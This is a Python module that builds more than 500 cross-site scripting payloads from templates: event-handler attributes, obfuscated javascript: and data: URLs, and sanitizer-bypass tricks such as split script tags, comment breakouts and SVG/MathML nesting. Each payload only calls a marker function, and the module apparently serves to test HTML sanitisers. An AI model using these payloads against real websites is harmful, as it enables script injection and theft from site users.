"""Ways of running a script from a piece of HTML, written out from their parts.

Each payload calls `fired(<number>)` if a browser runs it. The parts are the classes of attack known to HTML
sanitisers: elements that run, attributes that run, addresses that run, and the spellings that hide them.
"""

from collections.abc import Iterator
from itertools import product

_EVENTS = {
    "img src=x": ["onerror"],
    "svg": ["onload"],
    "body": ["onload", "onpageshow", "onfocus"],
    "video src=x": ["onerror"],
    "audio src=x": ["onerror"],
    "input autofocus": ["onfocus"],
    "select autofocus": ["onfocus"],
    "textarea autofocus": ["onfocus"],
    "button autofocus": ["onfocus"],
    "iframe": ["onload"],
    "object data=x": ["onerror"],
    "details open": ["ontoggle"],
    "marquee": ["onstart"],
    "style": ["onload"],
    "p": ["onclick", "onmouseover", "onpointerenter", "onfocusin"],
    "a href=#": ["onclick", "onmouseover", "onauxclick"],
    "div contenteditable autofocus": ["onfocus"],
}
_SEPARATORS = [" ", "/", "\n", "\t", "\x0c"]
_CASES = [str, str.upper, str.title]
_SCHEMES = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "java&#10;script:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript:{js}",
    "javascript&colon;{js}",
    "javascript://%0a{js}",
    "\x01javascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>parent.{js}</script>",
]
_ADDRESSES = [
    '<a href="{address}">x</a>',
    "<a href='{address}'>x</a>",
    '<area shape=default href="{address}">',
    '<form action="{address}"><button>x</button></form>',
    '<button form=f formaction="{address}">x</button>',
    '<iframe src="{address}"></iframe>',
    '<embed src="{address}">',
    '<object data="{address}"></object>',
    '<svg><a xlink:href="{address}"><text y=20>x</text></a></svg>',
    '<math><mi href="{address}">x</mi></math>',
    '<a linktype="page" id="1" href="{address}">x</a>',
]
_WHOLE = [
    "<script>{js}</script>",
    "<script >{js}</script >",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script/x>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<svg><script>{js}</script></svg>",
    "<svg><script>&#102;ired({n})</script></svg>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<!--><img src=x onerror={js}>-->",
    "<!--><script>{js}</script>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><img src=x onerror={js}></template>",
    "<textarea></textarea><img src=x onerror={js}>",
    "<title></title><img src=x onerror={js}>",
    "<style></style><img src=x onerror={js}>",
    '<p title="><img src=x onerror={js}>">',
    "<p title='\"><img src=x onerror={js}>'>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=y begin=0s>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
    "<table><td background=x><img src=x onerror={js}></table>",
    "<img src=x onerror={js}//",
    "<img src=x:x onerror={js} ",
    "<img/src=x/onerror={js}>",
    "<img src='x'onerror={js}>",
    "<a><b><img src=x onerror={js}></b></a>",
    "<p data-block-key='\"><img src=x onerror={js}>'>x</p>",
    "<embed embedtype=image id=1 onerror={js} src=x>",
    "<base href=javascript:{js}//><a href=#>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<link rel=stylesheet href=javascript:{js}>",
]


def payloads() -> Iterator[str]:
    """Every payload, numbered from 0; more than 500."""
    for number, template in enumerate(_templates()):
        yield template.replace("{js}", f"fired({number})").replace("{n}", str(number))


def _templates() -> Iterator[str]:
    yield from _WHOLE
    for (element, events), separator, case in product(_EVENTS.items(), _SEPARATORS, _CASES):
        tag, _, attributes = element.partition(" ")
        for event in events:
            yield f"<{case(tag)}{separator}{attributes}{separator}{case(event)}={{js}}>x</{case(tag)}>"
    for address, wrapper in product(_SCHEMES, _ADDRESSES):
        yield wrapper.replace("{address}", address)
